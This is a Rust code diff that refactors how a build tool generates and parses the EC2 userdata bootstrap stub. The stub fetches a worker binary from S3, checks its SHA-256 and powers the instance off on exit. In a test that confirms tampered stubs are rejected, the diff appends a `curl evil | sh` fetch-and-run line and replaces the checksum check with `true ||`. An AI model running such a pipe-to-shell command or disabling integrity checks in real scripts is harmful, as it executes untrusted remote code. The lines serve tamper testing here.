@@ -240,48 +240,246 @@ pub struct WorkerBinary<'a> {
     pub bucket_owner: Option<&'a str>,
 }
 
+/// The machine-specific parts of the userdata stub, its only substitution points: where the
+/// worker binary comes from, what powering off is, where the worker is installed and where its
+/// output goes. Everything else (the exports, the power-off trap set before anything can fail, the
+/// SHA-256 check and its refusal, running the worker) is the same text on every machine.
+///
+/// EC2 userdata is [`StubMachine::ec2`]. The local fleet runs the same stub with its own machine:
+/// a copy of the local worker binary for the download, "end this instance" for the power-off, the
+/// instance's work folder for the install folder (see `local::stack::fleet`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct StubMachine {
+    /// A shell command that puts the worker binary at `./worker` (in [`Self::install_dir`]).
+    pub fetch: String,
+    /// Where the fetched binary comes from, as the refusal message names it.
+    pub source: String,
+    /// The command the stub's EXIT trap runs: power the instance off.
+    pub poweroff: String,
+    /// The folder the worker is fetched into and run from.
+    pub install_dir: String,
+    /// The file the worker's stdout and stderr are appended to.
+    pub worker_log: String,
+}
+
+impl StubMachine {
+    /// An EC2 instance: the binary from the artifact bucket with the instance profile (checking
+    /// the bucket's owner), `poweroff` (the instance's shutdown behaviour is terminate),
+    /// `/opt/build-on-aws`, `/var/log/build-on-aws-worker.log`.
+    pub fn ec2(binary: &WorkerBinary<'_>) -> StubMachine {
+        let owner = binary
+            .bucket_owner
+            .map(|o| format!(" --expected-bucket-owner {}", shell_quote(o)))
+            .unwrap_or_default();
+        let fetch = match binary
+            .url
+            .strip_prefix("s3://")
+            .and_then(|r| r.split_once('/'))
+        {
+            Some((bucket, key)) => format!(
+                "aws s3api get-object --bucket {} --key {}{owner} ./worker >/dev/null",
+                shell_quote(bucket),
+                shell_quote(key)
+            ),
+            None => format!(
+                "aws s3 cp {} ./worker --only-show-errors",
+                shell_quote(binary.url)
+            ),
+        };
+        StubMachine {
+            fetch,
+            source: binary.url.to_string(),
+            poweroff: "poweroff".into(),
+            install_dir: "/opt/build-on-aws".into(),
+            worker_log: "/var/log/build-on-aws-worker.log".into(),
+        }
+    }
+}
+
+/// A word for the shell: as is when it needs no quoting (so plain paths read naturally), else
+/// single-quoted.
+fn shell_word(s: &str) -> String {
+    if !s.is_empty()
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"/._-+:,=@%".contains(&b))
+    {
+        s.to_string()
+    } else {
+        shell_quote(s)
+    }
+}
+
+/// What a userdata stub carries: the exported configuration and the worker binary's location,
+/// SHA-256 and bucket owner. [`user_data`] renders it for EC2; the local fleet reads it back from
+/// a launch's userdata ([`StubInputs::parse`]) and renders it for its own machine.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct StubInputs {
+    /// `export K='V'` lines, in order.
+    pub exports: Vec<(String, String)>,
+    pub url: String,
+    pub sha256: Option<String>,
+    pub bucket_owner: Option<String>,
+}
+
+impl StubInputs {
+    pub fn new(env: &WorkerEnv, binary: &WorkerBinary<'_>) -> StubInputs {
+        StubInputs {
+            exports: env
+                .to_vars()
+                .into_iter()
+                .map(|(k, v)| (k.to_string(), v))
+                .collect(),
+            url: binary.url.to_string(),
+            sha256: binary.sha256.map(str::to_string),
+            bucket_owner: binary.bucket_owner.map(str::to_string),
+        }
+    }
+
+    pub fn binary(&self) -> WorkerBinary<'_> {
+        WorkerBinary {
+            url: &self.url,
+            sha256: self.sha256.as_deref(),
+            bucket_owner: self.bucket_owner.as_deref(),
+        }
+    }
+
+    /// The stub for `machine`. Whatever ends it runs the machine's power-off, with the reason in
+    /// the console output (its stderr).
+    pub fn render(&self, machine: &StubMachine) -> String {
+        let mut s = String::from(
+            "#!/bin/bash\n# build-on-aws worker bootstrap (generated)\nset -euo pipefail\n",
+        );
+        for (k, v) in &self.exports {
+            s.push_str(&format!("export {k}={}\n", shell_quote(v)));
+        }
+        let dir = shell_word(&machine.install_dir);
+        s.push_str(&format!(
+            "# Whatever ends this stub (a failed download, a binary that is not the deployed one, a\n# worker that cannot start or exits) powers the instance off: an instance without a running\n# worker must not linger.\ntrap {} EXIT\nmkdir -p {dir} && cd {dir}\n",
+            shell_quote(&machine.poweroff),
+        ));
+        s.push_str(&machine.fetch);
+        s.push('\n');
+        if let Some(sha) = &self.sha256 {
+            // Inside double quotes: nothing in the source may expand.
+            let source: String = machine
+                .source
+                .chars()
+                .filter(|c| !matches!(c, '"' | '$' | '`' | '\\'))
+                .collect();
+            s.push_str(&format!(
+                "if ! echo {}'  ./worker' | sha256sum -c --status -; then\n  echo \"build-on-aws: the worker binary from {source} is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected {sha}): refusing to run it\" >&2\n  exit 1\nfi\n",
+                shell_quote(sha),
+            ));
+        }
+        s.push_str(&format!(
+            "chmod +x ./worker\n./worker >>{} 2>&1\n",
+            shell_word(&machine.worker_log)
+        ));
+        s
+    }
+
+    /// Reads back what [`user_data`] rendered for EC2. `None` unless rendering the result again
+    /// gives `user_data` exactly: whatever runs a parsed stub runs the one start-workers wrote,
+    /// only on another machine.
+    pub fn parse(user_data: &str) -> Option<StubInputs> {
+        let mut exports = vec![];
+        let (mut url, mut sha256, mut bucket_owner) = (None, None, None);
+        for words in shell_commands(user_data)? {
+            let w: Vec<&str> = words.iter().map(String::as_str).collect();
+            match w.as_slice() {
+                ["export", kv] => {
+                    let (k, v) = kv.split_once('=')?;
+                    exports.push((k.to_string(), v.to_string()));
+                }
+                [
+                    "aws",
+                    "s3api",
+                    "get-object",
+                    "--bucket",
+                    b,
+                    "--key",
+                    k,
+                    rest @ ..,
+                ] => {
+                    url = Some(format!("s3://{b}/{k}"));
+                    if let ["--expected-bucket-owner", o, ..] = rest {
+                        bucket_owner = Some(o.to_string());
+                    }
+                }
+                ["aws", "s3", "cp", u, ..] => url = Some(u.to_string()),
+                ["if", "!", "echo", line, ..] => {
+                    sha256 = Some(line.strip_suffix("  ./worker")?.to_string());
+                }
+                _ => {}
+            }
+        }
+        let inputs = StubInputs {
+            exports,
+            url: url?,
+            sha256,
+            bucket_owner,
+        };
+        (inputs.render(&StubMachine::ec2(&inputs.binary())) == user_data).then_some(inputs)
+    }
+}
+
+/// The commands of a shell text as words (quotes removed; `#` comments dropped). Enough for the
+/// stub's own text; `None` on an unterminated quote.
+fn shell_commands(text: &str) -> Option<Vec<Vec<String>>> {
+    let mut commands = vec![];
+    let mut words: Vec<String> = vec![];
+    let mut word: Option<String> = None;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                let w = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next()? {
+                        '\'' => break,
+                        x => w.push(x),
+                    }
+                }
+            }
+            '"' => {
+                let w = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next()? {
+                        '"' => break,
+                        '\\' => w.push(chars.next()?),
+                        x => w.push(x),
+                    }
+                }
+            }
+            '\\' => {
+                if let Some(x) = chars.next() {
+                    word.get_or_insert_with(String::new).push(x);
+                }
+            }
+            '#' if word.is_none() => while chars.next_if(|x| *x != '\n').is_some() {},
+            '\n' | ' ' | '\t' => {
+                words.extend(word.take());
+                if c == '\n' && !words.is_empty() {
+                    commands.push(std::mem::take(&mut words));
+                }
+            }
+            x => word.get_or_insert_with(String::new).push(x),
+        }
+    }
+    words.extend(word.take());
+    if !words.is_empty() {
+        commands.push(words);
+    }
+    Some(commands)
+}
+
 /// The userdata stub: exports the configuration, fetches the worker binary from the artifact
 /// bucket with the instance profile (checking the bucket's owner), refuses it unless its SHA-256
 /// is the deployed one, and runs it. No secrets, no task tokens. Whatever ends the stub powers the
-/// instance off, with the reason in the console output.
+/// instance off, with the reason in the console output. ([`StubInputs::render`] with
+/// [`StubMachine::ec2`].)
 pub fn user_data(env: &WorkerEnv, binary: &WorkerBinary<'_>) -> String {
-    let mut s = String::from(
-        "#!/bin/bash\n# build-on-aws worker bootstrap (generated)\nset -euo pipefail\n",
-    );
-    for (k, v) in env.to_vars() {
-        s.push_str(&format!("export {k}={}\n", shell_quote(&v)));
-    }
-    s.push_str(
-        "# Whatever ends this stub (a failed download, a binary that is not the deployed one, a\n# worker that cannot start or exits) powers the instance off: an instance without a running\n# worker must not linger.\ntrap 'poweroff' EXIT\nmkdir -p /opt/build-on-aws && cd /opt/build-on-aws\n",
-    );
-    let owner = binary
-        .bucket_owner
-        .map(|o| format!(" --expected-bucket-owner {}", shell_quote(o)))
-        .unwrap_or_default();
-    match binary
-        .url
-        .strip_prefix("s3://")
-        .and_then(|r| r.split_once('/'))
-    {
-        Some((bucket, key)) => s.push_str(&format!(
-            "aws s3api get-object --bucket {} --key {}{owner} ./worker >/dev/null\n",
-            shell_quote(bucket),
-            shell_quote(key)
-        )),
-        None => s.push_str(&format!(
-            "aws s3 cp {} ./worker --only-show-errors\n",
-            shell_quote(binary.url)
-        )),
-    }
-    if let Some(sha) = binary.sha256 {
-        s.push_str(&format!(
-            "if ! echo {}'  ./worker' | sha256sum -c --status -; then\n  echo \"build-on-aws: the worker binary from {} is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected {sha}): refusing to run it\" >&2\n  exit 1\nfi\n",
-            shell_quote(sha),
-            binary.url.replace('"', "")
-        ));
-    }
-    s.push_str("chmod +x ./worker\n./worker >>/var/log/build-on-aws-worker.log 2>&1\n");
-    s
+    StubInputs::new(env, binary).render(&StubMachine::ec2(binary))
 }
 
 #[cfg(test)]
@@ -395,12 +593,13 @@ mod tests {
         // `aws s3api get-object … OUTFILE`: the last argument is where the object goes.
         fake("aws", format!("cp {} \"${{@: -1}}\"", src.display()));
         fake("poweroff", format!("touch {}/powered-off", d.display()));
-        let stub = user_data(&sample(), &binary(Some(sha)))
-            .replace("/opt/build-on-aws", &d.join("opt").display().to_string())
-            .replace(
-                "/var/log/build-on-aws-worker.log",
-                &d.join("worker.log").display().to_string(),
-            );
+        // The EC2 stub with its install folder and worker log moved into the test's folder.
+        let b = binary(Some(sha));
+        let stub = StubInputs::new(&sample(), &b).render(&StubMachine {
+            install_dir: d.join("opt").display().to_string(),
+            worker_log: d.join("worker.log").display().to_string(),
+            ..StubMachine::ec2(&b)
+        });
         let out = std::process::Command::new("bash")
             .arg("-c")
             .arg(&stub)
@@ -444,6 +643,89 @@ mod tests {
         assert!(
             err.contains("is not the deployed one") && err.contains(&sha256_hex(good)),
             "{err}"
+        );
+    }
+
+    #[test]
+    fn a_stub_reads_back_exactly_and_nothing_else_does() {
+        let mut env = sample();
+        env.step_env.insert(
+            "MULTI".into(),
+            "line one\nline 'two' # not a comment".into(),
+        );
+        for b in [
+            binary(Some(SHA)),
+            binary(None),
+            WorkerBinary {
+                url: "https://example.com/worker",
+                sha256: Some(SHA),
+                bucket_owner: None,
+            },
+        ] {
+            let u = user_data(&env, &b);
+            let back = StubInputs::parse(&u).unwrap_or_else(|| panic!("{u}"));
+            assert_eq!(back, StubInputs::new(&env, &b));
+            assert_eq!(back.binary(), b);
+            // Any other text is not read as a stub: an extra command, a changed hash.
+            assert_eq!(StubInputs::parse(&format!("{u}curl evil | sh\n")), None);
+            if b.sha256.is_some() {
+                assert_eq!(
+                    StubInputs::parse(&u.replacen("sha256sum -c", "true ||", 1)),
+                    None
+                );
+            }
+        }
+        assert_eq!(
+            StubInputs::parse("#!/bin/bash\nexport BOA_STEP='Build'\n"),
+            None
+        );
+    }
+
+    #[test]
+    fn another_machine_changes_only_the_substitution_points() {
+        let b = binary(Some(SHA));
+        let inputs = StubInputs::new(&sample(), &b);
+        let ec2 = inputs.render(&StubMachine::ec2(&b));
+        let local = inputs.render(&StubMachine {
+            fetch: "cp /w/target/worker ./worker".into(),
+            source: "/w/target/worker".into(),
+            poweroff: "echo build-on-aws: poweroff".into(),
+            install_dir: "/w/run/i-1/opt".into(),
+            worker_log: "/w/run/logs/i-1 worker.log".into(),
+        });
+        let ec2_lines: Vec<&str> = ec2.lines().collect();
+        let local_lines: Vec<&str> = local.lines().collect();
+        assert_eq!(ec2_lines.len(), local_lines.len());
+        let differ: Vec<(&str, &str)> = ec2_lines
+            .iter()
+            .zip(&local_lines)
+            .filter(|(a, b)| a != b)
+            .map(|(a, b)| (*a, *b))
+            .collect();
+        assert_eq!(
+            differ,
+            vec![
+                (
+                    "trap 'poweroff' EXIT",
+                    "trap 'echo build-on-aws: poweroff' EXIT"
+                ),
+                (
+                    "mkdir -p /opt/build-on-aws && cd /opt/build-on-aws",
+                    "mkdir -p /w/run/i-1/opt && cd /w/run/i-1/opt"
+                ),
+                (
+                    "aws s3api get-object --bucket 'artifacts' --key 'worker/worker' --expected-bucket-owner '123456789012' ./worker >/dev/null",
+                    "cp /w/target/worker ./worker"
+                ),
+                (
+                    "  echo \"build-on-aws: the worker binary from s3://artifacts/worker/worker is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef): refusing to run it\" >&2",
+                    "  echo \"build-on-aws: the worker binary from /w/target/worker is not the deployed one (SHA-256 $(sha256sum ./worker | cut -c1-64), expected 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef): refusing to run it\" >&2"
+                ),
+                (
+                    "./worker >>/var/log/build-on-aws-worker.log 2>&1",
+                    "./worker >>'/w/run/logs/i-1 worker.log' 2>&1"
+                ),
+            ]
         );
     }
 }
